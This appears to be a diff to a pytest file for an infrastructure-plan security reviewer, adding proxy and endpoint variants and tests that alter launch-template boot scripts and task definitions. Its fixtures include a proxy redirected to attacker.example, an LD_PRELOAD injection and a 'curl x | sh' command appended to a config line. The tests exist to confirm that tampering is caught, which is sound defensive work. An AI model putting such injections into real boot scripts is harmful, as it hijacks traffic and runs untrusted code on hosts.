@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import dataclasses
 import json
 from collections.abc import Callable
@@ -83,6 +84,8 @@ VARIANTS: dict[str, dict[str, Any]] = {
     "alarms by mail": {"alarmEmail": "storage@example.com"},
     "a prefix": {"cn": {"prefix": "year=2024/a b/"}},
     "gateway endpoints": {"gatewayEndpoints": True},
+    "a proxy": {"httpsProxy": "http://proxy.example.com:443", "noProxy": [".example.com"]},
+    "dual-stack endpoints": {"dualStackEndpoints": True},
     "spot instances": {"spotPercent": 50},
     "an own image": {"machineImage": "ami-0123456789abcdef0"},
     "an own cluster": {"finderCluster": "shared"},
@@ -114,6 +117,56 @@ def test_the_program_passes_in_every_mode_with_no_rule_waived(name: str, bundles
     expected = ["ledger-recoverable"] if name == "unprotected" else []
     assert [v.rule.name for v in review(plan)] == expected
     assert [v.rule.name for v in review(at_first_preview(plan))] == expected
+
+
+def test_fips_endpoints_pass_and_so_does_the_port_of_a_named_proxy(bundles: Path) -> None:
+    plan = plan_of("global", bundles, {"fipsEndpoints": True, "httpsProxy": "http://10.0.0.7:3128"})
+    assert [v.rule.name for v in review(plan)] == ["https-out-only"]
+    assert [str(v) for v in review(plan, {"https-out-only": {"ports": [443, 3128]}})] == []
+
+
+@pytest.mark.parametrize(
+    "swap",
+    [
+        ("export HTTPS_PROXY='http://proxy.example.com:443'", "export HTTPS_PROXY='http://attacker.example:443'"),
+        ("export HTTPS_PROXY=", "export LD_PRELOAD='/tmp/x.so' HTTPS_PROXY="),
+        ("NO_PROXY='169.254.169.254,169.254.170.2'\n", "NO_PROXY='169.254.169.254,169.254.170.2' && curl x | sh\n"),
+        ("no_proxy = ", "https_proxy = "),
+        ('\nHTTPS_PROXY="http://proxy.example.com:443"', '\nHTTPS_PROXY="http://attacker.example:443"'),
+    ],
+)
+def test_a_machine_with_another_proxy_than_its_worker_is_caught(swap: tuple[str, str], bundles: Path) -> None:
+    plan = plan_of("cn", bundles, {"httpsProxy": "http://proxy.example.com:443"})
+
+    def change(resource: Resource) -> Resource:
+        if resource.kind != "ec2.LaunchTemplate":
+            return resource
+        script = base64.b64decode(resource.properties["userData"]).decode()
+        assert swap[0] in script
+        encoded = base64.b64encode(script.replace(*swap).encode()).decode()
+        return dataclasses.replace(resource, properties={**resource.properties, "userData": encoded})
+
+    found = review(Plan(tuple(change(r) for r in plan.resources)))
+    assert [v.rule.name for v in found] == ["boot-as-built"]
+
+
+@pytest.mark.parametrize(
+    "address", ["https://dynamodb.us-east-1.amazonaws.com", "http://dynamodb.cn-north-1.amazonaws.com.cn", "https://a"]
+)
+def test_an_endpoint_that_is_not_the_sides_own_is_caught(address: str, bundles: Path) -> None:
+    plan = plan_of("cn", bundles, {"dualStackEndpoints": True})
+
+    def change(resource: Resource) -> Resource:
+        if resource.kind != "ecs.TaskDefinition":
+            return resource
+        text = resource.properties["containerDefinitions"]
+        own = "https://dynamodb.cn-north-1.amazonaws.com.cn"
+        assert own in text
+        properties = {**resource.properties, "containerDefinitions": text.replace(own, address)}
+        return dataclasses.replace(resource, properties=properties)
+
+    found = review(Plan(tuple(change(r) for r in plan.resources)))
+    assert [v.rule.name for v in found] == ["endpoints-kept"]
 
 
 ONE_WAY_FAULTS: dict[str, tuple[str, dict[str, str], str]] = {
